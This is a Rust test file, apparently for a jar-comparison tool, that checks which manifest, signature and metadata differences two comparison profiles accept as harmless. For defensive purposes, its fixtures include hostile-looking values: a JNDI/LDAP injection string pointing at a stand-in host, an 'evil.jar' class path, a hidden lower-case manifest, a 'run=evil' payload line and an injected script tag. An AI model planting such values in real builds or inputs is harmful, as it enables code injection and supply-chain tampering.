//! Pairs of jars: what OSS Rebuild says of them, and what the standard profile says.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use twinspect::report::Verdict::{self, Different, Equivalent};
use twinspect::stabilize::Profile;
use twinspect_tests::{Member, compare, file, zip};

const MANIFEST: &str = "META-INF/MANIFEST.MF";

fn check(name: &str, left: &[Member<'_>], right: &[Member<'_>], upstream: Verdict, standard: Verdict) {
    for (profile, expected) in [(Profile::OssRebuild, upstream), (Profile::Standard, standard)] {
        let comparison = compare(("a.jar", &zip(left)), ("a.jar", &zip(right)), profile);
        assert_eq!(comparison.report().verdict, expected, "{name}: {profile:?} {:?}", comparison.report().statements);
    }
}

/// Two jars that differ in their manifests alone.
fn check_manifests(left: &str, right: &str, upstream: Verdict, standard: Verdict) {
    let (one, other) = ([file(MANIFEST, left.as_bytes())], [file(MANIFEST, right.as_bytes())]);
    check(right, &one, &other, upstream, standard);
}

/// The passes that account for a manifest in the standard profile.
fn causes(left: &str, right: &str) -> Vec<String> {
    let (left, right) = (zip(&[file(MANIFEST, left.as_bytes())]), zip(&[file(MANIFEST, right.as_bytes())]));
    let comparison = compare(("a.jar", &left), ("a.jar", &right), Profile::Standard);
    let row = comparison.report().rows.iter().find(|row| row.path == MANIFEST).unwrap();
    row.causes.iter().filter(|cause| !cause.starts_with("zip-")).cloned().collect()
}

#[test]
fn how_a_manifest_is_written_does_not_count() {
    let usual = "Manifest-Version: 1.0\r\nCreated-By: a\r\nB: 1\r\n\r\nName: x\r\nC: 2\r\n\r\n";
    check_manifests(
        usual,
        "Manifest-Version: 1.0\r\nTool: x\r\nB: 1\r\n\r\nName: x\r\nC: 2\r\n\r\n",
        Equivalent,
        Equivalent,
    );
    check_manifests(usual, "Manifest-Version: 1.0\nCreated-By: b\nB: 1\n\nName: x\nC: 2\n", Equivalent, Equivalent);
    let twice = "Manifest-Version: 1.0\r\nA: 1\r\nB: 2\r\n\r\nName: x\r\nC: 3\r\n\r\nName: y\r\nC: 4\r\n\r\n";
    let attributes = "Manifest-Version: 1.0\r\nB: 2\r\nA: 1\r\n\r\nName: x\r\nC: 3\r\n\r\nName: y\r\nC: 4\r\n\r\n";
    let sections = "Manifest-Version: 1.0\r\nA: 1\r\nB: 2\r\n\r\nName: y\r\nC: 4\r\n\r\nName: x\r\nC: 3\r\n\r\n";
    check_manifests(twice, attributes, Different, Equivalent);
    check_manifests(twice, sections, Different, Equivalent);
    let exports = |list: &str| format!("Manifest-Version: 1.0\r\nExport-Package: {list}\r\n\r\n");
    check_manifests(&exports("a,b;version=1;uses:=c"), &exports("b;uses:=c;version=1,a"), Equivalent, Equivalent);
    let imports = |list: &str| format!("Manifest-Version: 1.0\r\nImport-Package: {list}\r\n\r\n");
    check_manifests(&imports("a,b"), &imports("b,a"), Different, Different);
}

#[test]
fn the_pass_that_made_manifests_equal_is_the_one_named() {
    let first = "Manifest-Version: 1.0\nZ: 1\nCreated-By: a\nA: 2\nExport-Package: b,a\n";
    assert_eq!(causes(first, &first.replace(": a\n", ": b\n")), ["jar-build-metadata"]);
    assert_eq!(causes(first, &first.replace("b,a", "a,b")), ["jar-attribute-value-order"]);
    assert_eq!(causes(first, &first.replace('\n', "\r\n")), ["jar-manifest-form"]);
    assert_eq!(causes(first, &first.replace("Z: 1\n", "").replace("A: 2\n", "A: 2\nZ: 1\n")), ["jar-manifest-order"]);
}

#[test]
fn what_a_jvm_acts_on_counts() {
    let with = |lines: &str| format!("Manifest-Version: 1.0\r\nMain-Class: a.B\r\n{lines}\r\n");
    let plain = with("Created-By: a\r\n");
    for lines in
        ["Class-Path: evil.jar\r\n", "Launcher-Agent-Class: x\r\n", "Multi-Release: true\r\n", "Premain-Class: x\r\n"]
    {
        check_manifests(&plain, &with(lines), Different, Different);
    }
    check_manifests(&plain, &plain.replace("a.B", "a.C"), Different, Different);
    // Upstream sees no difference in these.
    check_manifests(&plain, &with("url: http://example.org/\r\n"), Equivalent, Different);
    check_manifests(&plain, &with("Created-By: ${jndi:ldap://example.org/x}\r\n"), Equivalent, Different);
    check_manifests(&with("Multi-Release: true\r\n"), &with("Multi-Release: tr\r\n ue\r\n"), Equivalent, Different);
    check_manifests(&with("Class-Path: x.jar\r\n"), &with("Class-Pa\r\n th: x.jar\r\n"), Equivalent, Different);
    check_manifests(&with("A: b\r\n"), &with("A: b\r\n").replace("a.B\r\n", "a.B\r"), Equivalent, Different);
    // And these are not read by all readers alike.
    let without_end = "Manifest-Version: 1.0\r\nMain-Class: a.B";
    check_manifests("Manifest-Version: 1.0\r\nMain-Class: a.B\r\n", without_end, Different, Different);
    let twice = |one: &str, other: &str| with(&format!("A: {one}\r\nA: {other}\r\n"));
    check_manifests(&twice("1", "2"), &twice("2", "1"), Different, Different);
    let sections = |one: &str, other: &str| {
        format!("Manifest-Version: 1.0\r\n\r\nName: p/\r\nSealed: {one}\r\n\r\nName: p/\r\nSealed: {other}\r\n\r\n")
    };
    check_manifests(&sections("true", "false"), &sections("false", "true"), Different, Different);
}

#[test]
fn another_manifest_beside_the_first_counts() {
    let one = file(MANIFEST, b"Manifest-Version: 1.0\nCreated-By: a\n");
    let other = file(MANIFEST, b"Manifest-Version: 1.0\nCreated-By: b\n");
    let hidden = file("meta-inf/manifest.mf", b"Manifest-Version: 1.0\nMain-Class: evil\n");
    check("lower case", std::slice::from_ref(&one), &[one.clone(), hidden.clone()], Different, Different);
    check("both", &[one, hidden.clone()], &[other, hidden], Equivalent, Different);
}

#[test]
fn a_signature_counts_in_standard_only() {
    let plain = file(MANIFEST, b"Manifest-Version: 1.0\r\n\r\n");
    let signed = file(MANIFEST, b"Manifest-Version: 1.0\r\n\r\nName: a.class\r\nSHA-256-Digest: AA=\r\n\r\n");
    let stamped =
        file(MANIFEST, b"Manifest-Version: 1.0\r\nTool: x\r\n\r\nName: a.class\r\nSHA-256-Digest: AA=\r\n\r\n");
    let class = file("a.class", b"x");
    let (sf, rsa) = (file("META-INF/K.SF", b"1"), file("META-INF/K.RSA", b"2"));
    let (other, lower) = (file("META-INF/K.RSA", b"3"), file("META-INF/k.sf", b"1"));
    let full = [signed.clone(), sf.clone(), rsa.clone(), class.clone()];
    check("lost", &full, &[plain.clone(), class.clone()], Equivalent, Different);
    check("another key", &full, &[signed.clone(), sf.clone(), other, class.clone()], Equivalent, Different);
    // The manifest that was signed is another one: this jar does not load.
    check("broken", &full, &[stamped, sf.clone(), rsa.clone(), class.clone()], Equivalent, Different);
    check("without digests", &full, &[plain.clone(), sf, rsa, class.clone()], Equivalent, Different);
    check("lower case", &[plain.clone(), class.clone()], &[plain, lower, class], Different, Different);
}

#[test]
fn a_file_of_a_known_name_hides_nothing() {
    let stamp = file("git.properties", b"git.commit.id.abbrev=0123456\n");
    let other = file("git.properties", b"git.commit.id.abbrev=89abcde\n");
    let payload = file("git.properties", b"git.commit.id.abbrev=0123456\nrun=evil\n");
    check("stamp", std::slice::from_ref(&stamp), &[other], Equivalent, Equivalent);
    check("payload", &[stamp], &[payload], Equivalent, Different);
    let (json, evil) =
        (file("x/git.json", br#"{"git.branch":"a"}"#), file("x/git.json", br#"{"git.branch":"a","x":"y"}"#));
    check("json", &[json], &[evil], Equivalent, Different);
    const POM: &str = "META-INF/maven/g/a/pom.properties";
    let dated = file(POM, b"#Generated by Maven\n#Tue Nov 24 10:00:00 CET 2020\nversion=1\n");
    let payload = file(POM, b"#Generated by Maven\n#payload\nversion=1\n");
    let modern = file(POM, b"#Created by Apache Maven 3.8.1\nversion=1\n");
    check("no date", std::slice::from_ref(&dated), &[payload], Equivalent, Different);
    check("modern", &[dated], &[modern], Different, Equivalent);
}

#[test]
fn jars_in_jars_are_stabilized_in_standard() {
    let inner = |mtime: u64, tool: &[u8]| {
        let text = [b"Manifest-Version: 1.0\nCreated-By: ", tool, b"\n"].concat();
        zip(&[file(MANIFEST, &text).mtime(mtime)])
    };
    let (one, other) = (inner(1_600_000_000, b"a"), inner(1_700_000_000, b"b"));
    check("nested", &[file("lib/i.jar", &one)], &[file("lib/i.jar", &other)], Different, Equivalent);
}

#[test]
fn pages_of_javadoc_differ_in_dates_only() {
    let page = |date: &str, body: &str| {
        format!(
            "<!DOCTYPE HTML>\n<html lang=\"en\">\n<head>\n<!-- Generated by javadoc (17) on Tue Nov 24 10:00:00 CET \
             {date} -->\n<title>A</title>\n<meta name=\"dc.created\" content=\"{date}-11-24\">\n</head>\n{body}\n"
        )
    };
    let (one, other, evil) = (page("2020", "<p>"), page("2021", "<p>"), page("2021", "<script>evil()</script>"));
    let jar = |text| [file("a.html", text)];
    check("dates", &jar(one.as_bytes()), &jar(other.as_bytes()), Different, Equivalent);
    check("script", &jar(one.as_bytes()), &jar(evil.as_bytes()), Different, Different);
}
